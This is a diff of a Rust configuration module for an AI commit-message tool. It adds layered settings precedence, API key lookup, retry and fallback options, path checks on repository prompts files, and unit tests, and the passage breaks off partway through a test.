@@ -1,17 +1,214 @@
+mod credentials;
+mod inspect;
+mod prompts;
+mod settings;
+
+pub use credentials::{delete_api_key, store_api_key, KEYRING_SERVICE};
+pub use inspect::{mask_secret, ConfigEntry, ValidationReport, CONFIG_KEYS};
+pub use prompts::{Prompts, PROMPTS_VERSION};
+pub use settings::{
+    ConfigSource, ExampleSettings, FormatSettings, ProfileSettings, ProviderSettings, Resolved,
+    Settings, UiSettings, REPO_KEYS,
+};
+
+use crate::ai::{
+    ErrorClass, ProviderKind, RetryPolicy, SecretPolicy, SummariseMode, DEFAULT_FALLBACK_ON,
+    DEFAULT_MAX_ATTEMPTS, DEFAULT_MAX_DIFF_TOKENS, DEFAULT_REQUEST_TIMEOUT_SECS,
+    DEFAULT_RETRY_BACKOFF_MS, DEFAULT_SUMMARY_CONCURRENCY,
+};
+use crate::commit_formatter::{FormatOptions, HookFailure, LintRules};
+use crate::git::{GitClient, PathFilter};
+use log::{info, warn};
+use serde::de::DeserializeOwned;
+use std::path::Path;
+use std::time::Duration;
 use std::{env, fs, path::PathBuf};
 
+/// Name of the configuration file checked in to a repository
+pub const REPO_CONFIG_FILE: &str = ".iamcommitted.toml";
+
+/// Prompts file picked up next to a repository's `.iamcommitted.toml` that sets no `prompts`
+pub const REPO_PROMPTS_FILE: &str = "prompts.md";
+
+pub const DEFAULT_PROVIDER: &str = "openai";
+pub const DEFAULT_CANDIDATES: u32 = 3;
+pub const DEFAULT_REPAIR_RETRIES: u32 = 2;
+pub const DEFAULT_HOOK_TIMEOUT_SECS: u64 = 30;
+
+/// Settings are resolved in this order, first match wins: command line flags,
+/// environment variables, the selected profile, the repository's `.iamcommitted.toml`
+/// files (nearest first), the user's `config.toml`, built-in defaults.
 pub struct Config {
     config_dir: PathBuf,
+    /// Top level of the repository containing the working directory
+    repo_root: Option<PathBuf>,
+    /// Values given as command line flags
+    overrides: Layer,
+    /// Configuration files, highest precedence first
+    files: Vec<Layer>,
+}
+
+/// One source of settings, also kept as a TOML table so looking up a key does not
+/// serialise the settings again
+#[derive(Clone)]
+struct Layer {
+    source: ConfigSource,
+    settings: Settings,
+    table: toml::Table,
+}
+
+impl Layer {
+    fn new(source: ConfigSource, settings: Settings) -> Self {
+        let table = toml::Table::try_from(&settings).unwrap_or_default();
+        Layer {
+            source,
+            settings,
+            table,
+        }
+    }
+
+    fn value(&self, key: &str) -> Option<&toml::Value> {
+        settings::table_value(&self.table, key)
+    }
 }
 
 impl Config {
     pub fn new() -> Result<Self, Box<dyn std::error::Error>> {
+        Self::for_working_dir(&env::current_dir()?)
+    }
+
+    /// Like `new`, but unknown keys in the configuration files are logged and skipped, so a
+    /// typo does not stop the git hooks or `lint`
+    pub fn new_lenient() -> Result<Self, Box<dyn std::error::Error>> {
+        Self::load(&env::current_dir()?, true)
+    }
+
+    /// Load the configuration that applies to a directory, including its repository's settings
+    pub fn for_working_dir(working_dir: &Path) -> Result<Self, Box<dyn std::error::Error>> {
+        Self::load(working_dir, false)
+    }
+
+    fn load(working_dir: &Path, lenient: bool) -> Result<Self, Box<dyn std::error::Error>> {
         let config_dir = Self::get_config_dir()?;
+        let load_file = |path: &Path| {
+            if lenient {
+                Settings::load_lenient(path)
+            } else {
+                Settings::load(path)
+            }
+        };
 
         // Create config directory if it doesn't exist
         fs::create_dir_all(&config_dir)?;
 
-        Ok(Config { config_dir })
+        let repo_root = GitClient::with_working_dir(working_dir.to_string_lossy().to_string())
+            .get_toplevel()
+            .ok()
+            .flatten()
+            .map(|toplevel| toplevel.canonicalize().unwrap_or(toplevel));
+
+        let mut files = Vec::new();
+        let repo_configs = repo_root
+            .as_deref()
+            .map(|toplevel| Self::find_repo_configs(working_dir, toplevel))
+            .unwrap_or_default();
+        for repo_config in repo_configs {
+            info!("Using repository configuration {:?}", repo_config);
+            if let Some(mut settings) = load_file(&repo_config)? {
+                settings.check_repo_safe(&repo_config)?;
+                if let (Some(prompts), Some(toplevel)) = (&settings.prompts, &repo_root) {
+                    Self::check_repo_prompts(&repo_config, prompts, toplevel)?;
+                }
+                if settings.prompts.is_none() {
+                    settings.prompts = repo_config
+                        .parent()
+                        .map(|dir| dir.join(REPO_PROMPTS_FILE))
+                        .filter(|prompts| prompts.is_file());
+                }
+                files.push(Layer::new(ConfigSource::Repo(repo_config), settings));
+            }
+        }
+        let user_config = config_dir.join("config.toml");
+        if let Some(settings) = load_file(&user_config)? {
+            files.push(Layer::new(ConfigSource::User(user_config), settings));
+        }
+
+        Ok(Config {
+            config_dir,
+            repo_root,
+            overrides: Layer::new(ConfigSource::Cli, Settings::default()),
+            files,
+        })
+    }
+
+    /// Refuse a repository's `prompts` outside the repository, e.g. `../../notes.md` or an
+    /// absolute path, as the file's contents are sent to the model
+    fn check_repo_prompts(
+        repo_config: &Path,
+        prompts: &Path,
+        toplevel: &Path,
+    ) -> Result<(), Box<dyn std::error::Error>> {
+        // A missing file is reported when the prompts are loaded, its directory must exist
+        let resolved = match (prompts.parent(), prompts.file_name()) {
+            _ if prompts.exists() => prompts.canonicalize().ok(),
+            (Some(dir), Some(name)) => dir.canonicalize().ok().map(|dir| dir.join(name)),
+            _ => None,
+        };
+        match resolved {
+            Some(path) if path.starts_with(toplevel) => Ok(()),
+            _ => Err(format!(
+                "{:?} sets prompts to {:?}, which is outside the repository; a repository config can only use prompts from the repository",
+                repo_config, prompts
+            )
+            .into()),
+        }
+    }
+
+    /// Find every `.iamcommitted.toml` from `working_dir` up to the repository root,
+    /// nearest first, so that a sub-project of a monorepo can refine the shared one
+    fn find_repo_configs(working_dir: &Path, toplevel: &Path) -> Vec<PathBuf> {
+        let working_dir = working_dir
+            .canonicalize()
+            .unwrap_or_else(|_| working_dir.to_path_buf());
+
+        let mut found = Vec::new();
+        for dir in working_dir.ancestors() {
+            let candidate = dir.join(REPO_CONFIG_FILE);
+            if candidate.is_file() {
+                found.push(candidate);
+            }
+            if dir == toplevel {
+                break;
+            }
+        }
+        found
+    }
+
+    /// Apply settings given on the command line, which take precedence over everything else
+    pub fn with_overrides(mut self, overrides: Settings) -> Self {
+        self.overrides = Layer::new(ConfigSource::Cli, overrides);
+        self
+    }
+
+    /// Get the path to the user's configuration file
+    pub fn config_path(&self) -> PathBuf {
+        self.config_dir.join("config.toml")
+    }
+
+    /// Get the nearest repository configuration in effect, or where a new one would be
+    /// created at the repository root; `None` outside a repository
+    pub fn repo_config_path(&self) -> Option<PathBuf> {
+        self.files
+            .iter()
+            .find_map(|layer| match &layer.source {
+                ConfigSource::Repo(path) => Some(path.clone()),
+                _ => None,
+            })
+            .or_else(|| {
+                self.repo_root
+                    .as_ref()
+                    .map(|root| root.join(REPO_CONFIG_FILE))
+            })
     }
 
     /// Get the platform-appropriate config directory
@@ -38,11 +235,520 @@ impl Config {
         Ok(config_dir)
     }
 
-    /// Get the path to the prompts configuration file
+    /// Get the path to the prompts configuration file - `prompts` from a config file,
+    /// defaulting to `prompts.md` in the user's config directory
     pub fn prompts_path(&self) -> PathBuf {
+        self.get_value("prompts")
+            .unwrap_or_else(|| self.default_prompts_path())
+    }
+
+    fn default_prompts_path(&self) -> PathBuf {
         self.config_dir.join("prompts.md")
     }
 
+    /// Environment variables that can set a key, in precedence order
+    fn env_names(&self, key: &str) -> Vec<String> {
+        let names: &[&str] = match key {
+            "provider" => &["IAC_PROVIDER"],
+            "profile" => &["IAC_PROFILE"],
+            "model" | "endpoint" | "api_key" => {
+                // Provider settings follow IAC_<PROVIDER>_* over <PROVIDER>_*
+                let Ok(kind) = ProviderKind::from_name(&self.provider_name()) else {
+                    return Vec::new();
+                };
+                let name = key.to_uppercase();
+                return vec![
+                    format!("IAC_{}_{}", kind.env_prefix(), name),
+                    format!("{}_{}", kind.env_prefix(), name),
+                ];
+            }
+            "api_key_command" => &["IAC_API_KEY_COMMAND"],
+            "keyring" => &["IAC_KEYRING"],
+            "temperature" => &["IAC_TEMPERATURE"],
+            "max_tokens" => &["IAC_MAX_TOKENS"],
+            "request_timeout" => &["IAC_REQUEST_TIMEOUT"],
+            "max_attempts" => &["IAC_MAX_ATTEMPTS"],
+            "retry_backoff_ms" => &["IAC_RETRY_BACKOFF_MS"],
+            "max_diff_tokens" => &["IAC_MAX_DIFF_TOKENS"],
+            "summarise" => &["IAC_SUMMARISE"],
+            "summarise_concurrency" => &["IAC_SUMMARISE_CONCURRENCY"],
+            "secrets" => &["IAC_SECRETS"],
+            "hook_failure" => &["IAC_HOOK_FAILURE"],
+            "hook_timeout" => &["IAC_HOOK_TIMEOUT"],
+            "candidates" => &["IAC_CANDIDATES"],
+            "repair_retries" => &["IAC_REPAIR_RETRIES"],
+            "format.body_width" => &["IAC_BODY_WIDTH"],
+            "format.subject_strategy" => &["IAC_SUBJECT_STRATEGY"],
+            "examples.count" => &["IAC_EXAMPLES"],
+            "examples.match_paths" => &["IAC_EXAMPLES_MATCH_PATHS"],
+            "ui.color" => &["IAC_COLOR"],
+            "ui.banner" => &["IAC_BANNER"],
+            _ => &[],
+        };
+        names.iter().map(|name| name.to_string()).collect()
+    }
+
+    /// Resolve a setting by its dotted key (e.g. `format.body_width`), looking in the
+    /// command line flags, the environment, the selected profile, then the configuration files.
+    /// Values that do not have the expected type are skipped with a warning.
+    pub fn get<T: DeserializeOwned>(&self, key: &str) -> Option<Resolved<T>> {
+        if let Some(value) = self.overrides.value(key) {
+            if let Ok(value) = value.clone().try_into() {
+                return Some(Resolved {
+                    value,
+                    source: ConfigSource::Cli,
+                });
+            }
+        }
+
+        for name in self.env_names(key) {
+            let Ok(raw) = env::var(&name) else {
+                continue;
+            };
+            match parse_env_value(&raw) {
+                Some(value) => {
+                    return Some(Resolved {
+                        value,
+                        source: ConfigSource::Env(name),
+                    })
+                }
+                None => warn!("Ignoring {}='{}', the value is not valid", name, raw),
+            }
+        }
+
+        // The profile is chosen by a setting itself, so it cannot set `profile`
+        if key != "profile" {
+            if let Some((name, profile)) = self.profile_settings() {
+                if let Some(value) = settings::table_value(profile, key) {
+                    match value.clone().try_into() {
+                        Ok(value) => {
+                            return Some(Resolved {
+                                value,
+                                source: ConfigSource::Profile(name),
+                            })
+                        }
+                        Err(e) => warn!("Ignoring {} from profile '{}': {}", key, name, e),
+                    }
+                }
+            }
+        }
+
+        self.files.iter().find_map(|layer| {
+            let value = self.file_value(layer, key)?;
+            match value.clone().try_into() {
+                Ok(value) => Some(Resolved {
+                    value,
+                    source: layer.source.clone(),
+                }),
+                Err(e) => {
+                    warn!("Ignoring {} from {}: {}", key, layer.source, e);
+                    None
+                }
+            }
+        })
+    }
+
+    /// A configuration file's value for a key. `model` and `endpoint` belong to a provider:
+    /// `[providers.<name>]` of the provider in use, then the top-level key when the file's
+    /// `provider` (openai if it sets none) is the one in use.
+    fn file_value<'a>(&self, layer: &'a Layer, key: &str) -> Option<&'a toml::Value> {
+        if matches!(key, "model" | "endpoint") {
+            let kind = ProviderKind::from_name(&self.provider_name()).ok()?;
+            if let Some(value) = layer.value(&format!("providers.{}.{}", kind.name(), key)) {
+                return Some(value);
+            }
+            let file_provider = layer
+                .settings
+                .provider
+                .as_deref()
+                .unwrap_or(DEFAULT_PROVIDER);
+            if ProviderKind::from_name(file_provider).ok() != Some(kind) {
+                return None;
+            }
+        }
+        layer.value(key)
+    }
+
+    fn get_value<T: DeserializeOwned>(&self, key: &str) -> Option<T> {
+        self.get(key).map(|resolved| resolved.value)
+    }
+
+    /// Get the selected profile - `--profile` / IAC_PROFILE / `profile`; an error when no
+    /// configuration file defines it
+    pub fn profile(&self) -> Result<Option<String>, Box<dyn std::error::Error>> {
+        let Some(Resolved {
+            value: name,
+            source,
+        }) = self.get::<String>("profile")
+        else {
+            return Ok(None);
+        };
+        if self.profile_settings().is_some() {
+            return Ok(Some(name));
+        }
+
+        let mut defined: Vec<&str> = self
+            .user_files()
+            .flat_map(|layer| layer.settings.profiles.keys().map(String::as_str))
+            .collect();
+        defined.sort_unstable();
+        defined.dedup();
+        Err(format!(
+            "Unknown profile '{}' from {}, define it under [profiles.{}] in the user's config.toml. Defined profiles: {}",
+            name,
+            source,
+            name,
+            if defined.is_empty() {
+                "none".to_string()
+            } else {
+                defined.join(", ")
+            }
+        )
+        .into())
+    }
+
+    /// The selected profile's settings, from the first of the user's configuration files
+    /// defining it. A repository config may select a profile but never define one.
+    fn profile_settings(&self) -> Option<(String, &toml::Table)> {
+        let name: String = self.get_value("profile")?;
+        let profile = self
+            .user_files()
+            .find_map(|layer| layer.value("profiles")?.get(&name)?.as_table())?;
+        Some((name, profile))
+    }
+
+    /// The configuration files other than the repository's `.iamcommitted.toml`
+    fn user_files(&self) -> impl Iterator<Item = &Layer> {
+        self.files
+            .iter()
+            .filter(|layer| !matches!(layer.source, ConfigSource::Repo(_)))
+    }
+
+    /// Get the name of the AI provider to use - `provider` / IAC_PROVIDER, defaulting to openai
+    pub fn provider_name(&self) -> String {
+        self.get_value("provider")
+            .unwrap_or_else(|| DEFAULT_PROVIDER.to_string())
+    }
+
+    /// Get the model - `model` / IAC_<PROVIDER>_MODEL / <PROVIDER>_MODEL; the provider picks a default when unset
+    pub fn model(&self) -> Option<String> {
+        self.get_value("model")
+    }
+
+    /// Get the API endpoint - `endpoint` / IAC_<PROVIDER>_ENDPOINT / <PROVIDER>_ENDPOINT
+    pub fn endpoint(&self) -> Option<String> {
+        self.get_value("endpoint")
+    }
+
+    /// Get the API key - the output of `api_key_command`, the OS keyring unless
+    /// `keyring = false`, then IAC_<PROVIDER>_API_KEY / <PROVIDER>_API_KEY
+    pub fn api_key(&self) -> Result<Option<Resolved<String>>, Box<dyn std::error::Error>> {
+        if let Some(command) = self.get_value::<String>("api_key_command") {
+            return Ok(Some(Resolved {
+                value: credentials::run_api_key_command(&command)?,
+                source: ConfigSource::Command,
+            }));
+        }
+
+        if self.keyring() {
+            // A profile's own key first, then the one shared by the provider
+            let kind = ProviderKind::from_name(&self.provider_name())?;
+            let mut accounts = vec![self.keyring_account()?];
+            accounts.push(kind.name().to_string());
+            accounts.dedup();
+            if let Some(key) = accounts
+                .iter()
+                .find_map(|account| credentials::read_keyring(account))
+            {
+                return Ok(Some(Resolved {
+                    value: key,
+                    source: ConfigSource::Keyring,
+                }));
+            }
+        }
+
+        Ok(self.get("api_key"))
+    }
+
+    /// Get the keyring account `auth login` stores the key under - the provider name,
+    /// followed by the profile when one is selected (e.g. `openai:work`)
+    pub fn keyring_account(&self) -> Result<String, Box<dyn std::error::Error>> {
+        let kind = ProviderKind::from_name(&self.provider_name())?;
+        Ok(match self.profile()? {
+            Some(profile) => format!("{}:{}", kind.name(), profile),
+            None => kind.name().to_string(),
+        })
+    }
+
+    /// Whether to look up the API key in the OS keyring - `keyring` / IAC_KEYRING
+    pub fn keyring(&self) -> bool {
+        self.get_value("keyring").unwrap_or(true)
+    }
+
+    /// Get the sampling temperature - `temperature` / IAC_TEMPERATURE
+    pub fn temperature(&self) -> Option<f64> {
+        self.get_value("temperature")
+    }
+
+    /// Get the generated token limit - `max_tokens` / IAC_MAX_TOKENS
+    pub fn max_tokens(&self) -> Option<u32> {
+        self.get_value("max_tokens")
+    }
+
+    /// Get how long to wait for the model's answer - `request_timeout` /
+    /// IAC_REQUEST_TIMEOUT in seconds, defaulting to 60; `None` when set to 0
+    pub fn request_timeout(&self) -> Option<Duration> {
+        let seconds = self
+            .get_value::<u64>("request_timeout")
+            .unwrap_or(DEFAULT_REQUEST_TIMEOUT_SECS);
+        (seconds > 0).then(|| Duration::from_secs(seconds))
+    }
+
+    /// Get how failed requests are retried - `max_attempts` / IAC_MAX_ATTEMPTS
+    /// (default 3) and `retry_backoff_ms` / IAC_RETRY_BACKOFF_MS (default 500)
+    pub fn retry_policy(&self) -> RetryPolicy {
+        RetryPolicy {
+            max_attempts: self
+                .get_value::<u32>("max_attempts")
+                .unwrap_or(DEFAULT_MAX_ATTEMPTS)
+                .max(1),
+            initial_backoff: Duration::from_millis(
+                self.get_value::<u64>("retry_backoff_ms")
+                    .unwrap_or(DEFAULT_RETRY_BACKOFF_MS),
+            ),
+        }
+    }
+
+    /// Get the configurations to fall back to when the model fails, in order - `fallbacks`,
+    /// each the name of a profile or `provider/model`. A `provider/model` fallback keeps
+    /// the rest of the current settings, apart from the endpoint of another provider.
+    pub fn fallbacks(&self) -> Result<Vec<Config>, Box<dyn std::error::Error>> {
+        let entries = self
+            .get_value::<Vec<String>>("fallbacks")
+            .unwrap_or_default();
+        entries
+            .iter()
+            .map(|entry| {
+                let entry = entry.trim();
+                let is_profile = self
+                    .files
+                    .iter()
+                    .any(|layer| layer.settings.profiles.contains_key(entry));
+                let overrides = if is_profile {
+                    Settings {
+                        profile: Some(entry.to_string()),
+                        ..Default::default()
+                    }
+                } else {
+                    let (provider, model) = entry.split_once('/').ok_or_else(|| {
+                        format!(
+                            "Fallback '{}' is neither a profile nor a provider/model pair",
+                            entry
+                        )
+                    })?;
+                    let kind = ProviderKind::from_name(provider)?;
+                    let endpoint = if kind == ProviderKind::from_name(&self.provider_name())? {
+                        self.endpoint()
+                    } else {
+                        kind.env_var("ENDPOINT")
+                            .ok()
+                            .or_else(|| kind.default_endpoint().map(str::to_string))
+                    };
+                    Settings {
+                        provider: Some(kind.name().to_string()),
+                        model: Some(model.trim().to_string()),
+                        endpoint,
+                        ..Default::default()
+                    }
+                };
+                Ok(Config {
+                    config_dir: self.config_dir.clone(),
+                    repo_root: self.repo_root.clone(),
+                    overrides: Layer::new(ConfigSource::Cli, overrides),
+                    files: self.files.clone(),
+                })
+            })
+            .collect()
+    }
+
+    /// Get the failures that move on to the next fallback - `fallback_on`, defaulting to
+    /// rate_limit, server, timeout and connection
+    pub fn fallback_on(&self) -> Result<Vec<ErrorClass>, Box<dyn std::error::Error>> {
+        match self.get_value::<Vec<String>>("fallback_on") {
+            Some(names) => names
+                .iter()
+                .map(|name| name.parse().map_err(Into::into))
+                .collect(),
+            None => Ok(DEFAULT_FALLBACK_ON.to_vec()),
+        }
+    }
+
+    /// Get the token budget for the diff - `max_diff_tokens` / IAC_MAX_DIFF_TOKENS,
+    /// defaulting to 12000; 0 sends the diff whatever its size
+    pub fn max_diff_tokens(&self) -> usize {
+        self.get_value::<u32>("max_diff_tokens")
+            .map_or(DEFAULT_MAX_DIFF_TOKENS, |tokens| tokens as usize)
+    }
+
+    /// Get when to summarise the diff before writing the message - `summarise` /
+    /// IAC_SUMMARISE, defaulting to never
+    pub fn summarise_mode(&self) -> Result<SummariseMode, Box<dyn std::error::Error>> {
+        match self.get_value::<String>("summarise") {
+            Some(name) => Ok(name.parse()?),
+            None => Ok(SummariseMode::default()),
+        }
+    }
+
+    /// Get how many summary requests run at once - `summarise_concurrency` /
+    /// IAC_SUMMARISE_CONCURRENCY, defaulting to 4
+    pub fn summarise_concurrency(&self) -> usize {
+        self.get_value::<u32>("summarise_concurrency")
+            .map_or(DEFAULT_SUMMARY_CONCURRENCY, |concurrency| {
+                concurrency as usize
+            })
+            .max(1)
+    }
+
+    /// Get what happens to secrets found in the diff - `secrets` / IAC_SECRETS,
+    /// defaulting to redact
+    pub fn secret_policy(&self) -> Result<SecretPolicy, Box<dyn std::error::Error>> {
+        match self.get_value::<String>("secrets") {
+            Some(name) => Ok(name.parse()?),
+            None => Ok(SecretPolicy::default()),
+        }
+    }
+
+    /// Get what the prepare-commit-msg hook does when generation fails - `hook_failure` /
+    /// IAC_HOOK_FAILURE, defaulting to heuristic
+    pub fn hook_failure(&self) -> Result<HookFailure, Box<dyn std::error::Error>> {
+        match self.get_value::<String>("hook_failure") {
+            Some(name) => Ok(name.parse()?),
+            None => Ok(HookFailure::default()),
+        }
+    }
+
+    /// Get how long the prepare-commit-msg hook may spend on a message, retries and
+    /// fallbacks included - `hook_timeout` / IAC_HOOK_TIMEOUT in seconds, defaulting to 30;
+    /// `None` when set to 0
+    pub fn hook_timeout(&self) -> Option<Duration> {
+        let seconds = self
+            .get_value::<u64>("hook_timeout")
+            .unwrap_or(DEFAULT_HOOK_TIMEOUT_SECS);
+        (seconds > 0).then(|| Duration::from_secs(seconds))
+    }
+
+    /// Get the number of candidate messages to generate - `candidates` / IAC_CANDIDATES, defaulting to 3
+    pub fn candidate_count(&self) -> u32 {
+        self.get_value("candidates")
+            .unwrap_or(DEFAULT_CANDIDATES)
+            .max(1)
+    }
+
+    /// Get the number of candidates generated in the prepare-commit-msg hook, which only
+    /// uses the top one - `candidates` / IAC_CANDIDATES when set, otherwise 1
+    pub fn hook_candidate_count(&self) -> u32 {
+        self.get_value("candidates").unwrap_or(1).max(1)
+    }
+
+    /// Get how often to re-prompt the model when its message still fails the lint rules -
+    /// `repair_retries` / IAC_REPAIR_RETRIES, defaulting to 2
+    pub fn repair_retries(&self) -> u32 {
+        self.get_value("repair_retries")
+            .unwrap_or(DEFAULT_REPAIR_RETRIES)
+    }
+
+    /// Get the formatter layout - `[format]` with IAC_BODY_WIDTH and IAC_SUBJECT_STRATEGY
+    pub fn format_options(&self) -> Result<FormatOptions, Box<dyn std::error::Error>> {
+        let defaults = FormatOptions::default();
+        let subject_strategy = match self.get_value::<String>("format.subject_strategy") {
+            Some(name) => name.parse()?,
+            None => defaults.subject_strategy,
+        };
+
+        Ok(FormatOptions {
+            body_width: self
+                .get_value("format.body_width")
+                .unwrap_or(defaults.body_width),
+            max_subject_length: self
+                .get_value("format.max_subject_length")
+                .unwrap_or(defaults.max_subject_length),
+            subject_strategy,
+        })
+    }
+
+    /// Get the commit message rules from the `[format]` section
+    pub fn lint_rules(&self) -> LintRules {
+        let defaults = LintRules::default();
+        let format = self.format_options().unwrap_or_default();
+
+        LintRules {
+            types: self.get_value("format.types").unwrap_or(defaults.types),
+            scopes: self.get_value("format.scopes").unwrap_or(defaults.scopes),
+            require_scope: self
+                .get_value("format.require_scope")
+                .unwrap_or(defaults.require_scope),
+            max_subject_length: format.max_subject_length,
+            body_wrap_width: format.body_width,
+            ..defaults
+        }
+    }
+
+    /// Get how many commits from the repository's history to show the model as examples -
+    /// `[examples] count` / IAC_EXAMPLES, defaulting to 0 (none)
+    pub fn example_count(&self) -> u32 {
+        self.get_value("examples.count").unwrap_or(0)
+    }
+
+    /// Whether example commits should touch the same directories as the staged changes -
+    /// `[examples] match_paths` / IAC_EXAMPLES_MATCH_PATHS
+    pub fn examples_match_paths(&self) -> bool {
+        self.get_value("examples.match_paths").unwrap_or(false)
+    }
+
+    /// Get which staged files have their changes sent to the model - `[paths] include`,
+    /// `exclude` and `attributes`, the last defaulting to true
+    pub fn path_filter(&self) -> PathFilter {
+        PathFilter::new(
+            &self
+                .get_value::<Vec<String>>("paths.include")
+                .unwrap_or_default(),
+            &self
+                .get_value::<Vec<String>>("paths.exclude")
+                .unwrap_or_default(),
+            self.get_value("paths.attributes").unwrap_or(true),
+        )
+    }
+
+    /// Whether to color terminal output - `[ui] color` / IAC_COLOR, off when NO_COLOR is set
+    pub fn color(&self) -> bool {
+        match self.get::<bool>("ui.color") {
+            Some(resolved)
+                if matches!(resolved.source, ConfigSource::Cli | ConfigSource::Env(_)) =>
+            {
+                resolved.value
+            }
+            _ if env::var_os("NO_COLOR").is_some() => false,
+            resolved => resolved.is_none_or(|resolved| resolved.value),
+        }
+    }
+
+    /// Whether to show the banner in interactive mode - `[ui] banner` / IAC_BANNER
+    pub fn banner(&self) -> bool {
+        self.get_value("ui.banner").unwrap_or(true)
+    }
+
+    /// Get the fixture mode (record or replay) from IAC_FIXTURE_MODE, if set
+    pub fn fixture_mode(&self) -> Option<String> {
+        env::var("IAC_FIXTURE_MODE").ok()
+    }
+
+    /// Get the fixture directory - IAC_FIXTURE_DIR, defaulting to `fixtures` in the config directory
+    pub fn fixture_dir(&self) -> PathBuf {
+        env::var("IAC_FIXTURE_DIR")
+            .map(PathBuf::from)
+            .unwrap_or_else(|_| self.config_dir.join("fixtures"))
+    }
+
     /// Get the platform-appropriate log directory
     pub fn get_log_dir() -> Result<PathBuf, Box<dyn std::error::Error>> {
         // Check for XDG_DATA_HOME first (Linux standard)
@@ -74,8 +780,8 @@ impl Config {
     pub fn load_prompts(&self) -> Result<String, Box<dyn std::error::Error>> {
         let prompts_path = self.prompts_path();
 
-        if !prompts_path.exists() {
-            // Copy default prompts to config directory
+        // Copy default prompts to config directory; a configured prompts file must exist
+        if prompts_path == self.default_prompts_path() {
             self.create_default_prompts()?;
         }
 
@@ -83,27 +789,67 @@ impl Config {
             .map_err(|e| format!("Failed to read prompts from {:?}: {}", prompts_path, e).into())
     }
 
-    /// Create default prompts file in config directory
+    /// Create default prompts file in config directory. A copy left by an earlier release
+    /// is replaced if it was never edited, keeping a `.bak` of it, and reported otherwise.
     fn create_default_prompts(&self) -> Result<(), Box<dyn std::error::Error>> {
-        let default_prompts = include_str!("prompts.md");
-        let prompts_path = self.prompts_path();
-
-        fs::write(&prompts_path, default_prompts).map_err(|e| -> Box<dyn std::error::Error> {
+        let prompts_path = self.default_prompts_path();
+        let write_error = |e: std::io::Error| -> Box<dyn std::error::Error> {
             format!(
                 "Failed to write default prompts to {:?}: {}",
                 prompts_path, e
             )
             .into()
-        })?;
+        };
 
-        println!(
-            "Created default prompts configuration at: {:?}",
-            prompts_path
-        );
+        let existing = match fs::read_to_string(&prompts_path) {
+            Ok(existing) => existing,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+                fs::write(&prompts_path, prompts::DEFAULT_PROMPTS).map_err(write_error)?;
+                println!(
+                    "Created default prompts configuration at: {:?}",
+                    prompts_path
+                );
+                return Ok(());
+            }
+            Err(e) => {
+                return Err(format!("Failed to read prompts from {:?}: {}", prompts_path, e).into())
+            }
+        };
+
+        let version = prompts::schema_version(&existing);
+        if version.unwrap_or(1) >= prompts::PROMPTS_VERSION {
+            return Ok(());
+        }
+        if prompts::is_legacy_default(&existing) {
+            let backup_path = prompts_path.with_extension("md.bak");
+            fs::write(&backup_path, &existing).map_err(write_error)?;
+            fs::write(&prompts_path, prompts::DEFAULT_PROMPTS).map_err(write_error)?;
+            println!(
+                "Updated the default prompts at {:?} (previous copy saved as {:?})",
+                prompts_path, backup_path
+            );
+        } else if let Some(warning) = prompts::version_warning(version) {
+            // Logged rather than printed, so the hook stays quiet; `config validate` shows it
+            warn!("{:?} is {}", prompts_path, warning);
+        }
         Ok(())
     }
 }
 
+/// Parse an environment variable as a setting value: as a plain string first,
+/// then as a TOML literal such as `3`, `0.2`, `true` or `["a", "b"]`
+fn parse_env_value<T: DeserializeOwned>(raw: &str) -> Option<T> {
+    let raw = raw.trim();
+    if let Ok(value) = toml::Value::String(raw.to_string()).try_into() {
+        return Some(value);
+    }
+    toml::from_str::<toml::Table>(&format!("value = {}", raw))
+        .ok()?
+        .remove("value")?
+        .try_into()
+        .ok()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -111,6 +857,7 @@ mod tests {
 
     #[test]
     fn test_config_dir_creation() {
+        let _env = crate::test_support::env_lock();
         // Set a temporary XDG_CONFIG_HOME for testing
         let temp_dir = TempDir::new().unwrap();
         env::set_var("XDG_CONFIG_HOME", temp_dir.path());
@@ -122,8 +869,451 @@ mod tests {
         env::remove_var("XDG_CONFIG_HOME");
     }
 
+    fn config_with_file(contents: &str) -> (TempDir, Config) {
+        let temp_dir = TempDir::new().unwrap();
+        env::set_var("XDG_CONFIG_HOME", temp_dir.path());
+        fs::create_dir_all(temp_dir.path().join("iamcommitted")).unwrap();
+        fs::write(temp_dir.path().join("iamcommitted/config.toml"), contents).unwrap();
+        let config = Config::new().unwrap();
+        env::remove_var("XDG_CONFIG_HOME");
+        (temp_dir, config)
+    }
+
+    #[test]
+    fn test_settings_precedence() {
+        let _env = crate::test_support::env_lock();
+        env::remove_var("IAC_CANDIDATES");
+        env::remove_var("IAC_PROVIDER");
+        let (_dir, config) = config_with_file("provider = \"ollama\"\ncandidates = 5\n");
+
+        // user config over defaults
+        assert_eq!(config.provider_name(), "ollama");
+        assert_eq!(config.candidate_count(), 5);
+        assert_eq!(config.hook_candidate_count(), 5);
+        assert_eq!(config.repair_retries(), 2);
+
+        // env over user config
+        env::set_var("IAC_CANDIDATES", "4");
+        assert_eq!(config.candidate_count(), 4);
+        env::set_var("IAC_CANDIDATES", "many");
+        assert_eq!(config.candidate_count(), 5);
+
+        // command line over env
+        env::set_var("IAC_CANDIDATES", "4");
+        let config = config.with_overrides(Settings {
+            candidates: Some(1),
+            ..Settings::default()
+        });
+        assert_eq!(config.candidate_count(), 1);
+        env::remove_var("IAC_CANDIDATES");
+    }
+
+    #[test]
+    fn test_hook_generates_one_candidate_by_default() {
+        let _env = crate::test_support::env_lock();
+        env::remove_var("IAC_CANDIDATES");
+        let (_dir, config) = config_with_file("");
+        assert_eq!(config.candidate_count(), DEFAULT_CANDIDATES);
+        assert_eq!(config.hook_candidate_count(), 1);
+        assert_eq!(
+            config.hook_timeout(),
+            Some(Duration::from_secs(DEFAULT_HOOK_TIMEOUT_SECS))
+        );
+
+        let config = config.with_overrides(Settings {
+            hook_timeout: Some(0),
+            ..Settings::default()
+        });
+        assert_eq!(config.hook_timeout(), None);
+    }
+
+    #[test]
+    fn test_provider_settings_follow_provider_prefix() {
+        let _env = crate::test_support::env_lock();
+        env::remove_var("IAC_PROVIDER");
+        env::remove_var("IAC_OLLAMA_MODEL");
+        env::remove_var("OLLAMA_MODEL");
+        let (_dir, config) =
+            config_with_file("provider = \"ollama\"\nmodel = \"llama3.2\"\ntemperature = 0.3\n");
+
+        assert_eq!(config.model().as_deref(), Some("llama3.2"));
+        env::set_var("OLLAMA_MODEL", "qwen2.5-coder");
+        assert_eq!(config.model().as_deref(), Some("qwen2.5-coder"));
+        assert_eq!(config.temperature(), Some(0.3));
+        assert_eq!(config.max_tokens(), None);
